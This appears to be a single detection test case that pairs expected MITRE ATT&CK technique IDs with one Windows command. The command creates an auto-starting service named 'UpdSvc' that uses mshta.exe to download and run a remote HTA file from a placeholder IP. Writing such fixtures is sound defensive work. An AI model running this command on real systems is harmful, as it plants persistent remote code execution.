# expect: T1543.003 T1218.005
sc.exe create UpdSvc binPath= 'mshta.exe http://203.0.113.4/run.hta' start= auto
